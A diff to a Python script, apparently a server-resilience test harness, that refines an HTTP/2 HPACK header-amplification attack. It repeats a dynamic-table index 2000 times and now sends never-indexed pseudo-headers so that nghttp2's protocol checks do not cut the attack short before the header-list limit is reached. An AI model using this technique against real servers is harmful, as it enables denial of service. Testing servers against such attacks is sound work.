@@ -191,7 +191,12 @@ def attack(name, host, port, ca):
         first = headers_block(encoder, "/hello", extra=[big])
         sock.sendall(HeadersFrame(1, data=first, flags=["END_HEADERS", "END_STREAM"]).serialize())
         index = bytes([0x80 | 62])  # indexed field: the newest dynamic-table entry
-        block = headers_block(encoder, "/hello") + index * 2000
+        # The pseudo-headers go literal and never indexed: indexed ones (:authority, :path) would enter the table
+        # and evict x-bomb, and index 62 would then repeat :path 2000 times — a malformed request that nghttp2
+        # resets with PROTOCOL_ERROR before the server's header-list limit is ever reached.
+        from hpack import NeverIndexedHeaderTuple
+        pseudo = [(":method", "GET"), (":scheme", "http"), (":authority", "localhost"), (":path", "/hello")]
+        block = encoder.encode([NeverIndexedHeaderTuple(n, v) for n, v in pseudo]) + index * 2000
         sock.sendall(HeadersFrame(3, data=block, flags=["END_HEADERS", "END_STREAM"]).serialize())
         goaway, closed, resets, statuses = summarize(sock, seconds=5, want_streams=(1, 3))
         print(f"result=goaway:{goaway} closed:{closed} s1:{statuses.get(1)} s3:{statuses.get(3, resets.get(3))}")
